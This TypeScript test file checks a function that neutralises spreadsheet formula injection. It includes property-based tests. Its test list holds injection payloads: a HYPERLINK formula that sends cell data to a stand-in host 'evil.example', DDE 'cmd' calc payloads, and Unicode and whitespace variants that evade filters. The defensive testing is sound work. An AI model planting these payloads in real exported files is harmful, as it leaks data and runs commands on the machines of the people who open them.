import fc from 'fast-check'
import { expect, test } from 'vitest'
import { harmlessCell } from './harmless-cell.ts'

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  '\r\nplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '"=1+1',
  '"\'"=1+1',
  ' " =1+1',
  '“=1+1”',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '＂＝1+1',
  '−1',
  '﹦1',
]

test.each(HOSTILE)('%j begins no formula', (text) => {
  expect(harmlessCell(text)).toBe(`'${text}`)
})

test.each(['Nomvula Khoza', 'a=b', '3 - 2', 'O’Brien', '"Thank you"', '083 555 0142', '', '(+27) 83', '1=1'])(
  '%j stays as it is',
  (text) => {
    expect(harmlessCell(text)).toBe(text)
  },
)

test('whatever the text, no cell begins like a formula, and what was written is still there', () => {
  const anyText = fc.tuple(fc.stringMatching(/^[\s"'=+\-@＝]{0,6}$/), fc.string({ unit: 'binary' }))
  fc.assert(
    fc.property(anyText, ([start, rest]) => {
      const text = start + rest
      const cell = harmlessCell(text)
      expect(cell.normalize('NFKC')).not.toMatch(/^[=+\-@\t\r\n]/)
      expect(cell.endsWith(text)).toBe(true)
      expect(cell.replaceAll(/^[\s"]+/g, '').normalize('NFKC')).not.toMatch(/^[=+\-@]/)
    }),
    { numRuns: 1_000 },
  )
})

test('spaces and quotes alone are no formula, however many', () => {
  const text = ` "'`.repeat(40_000)
  expect(harmlessCell(text)).toBe(text)
  expect(harmlessCell(`${text}=`)).toBe(`'${text}=`)
})
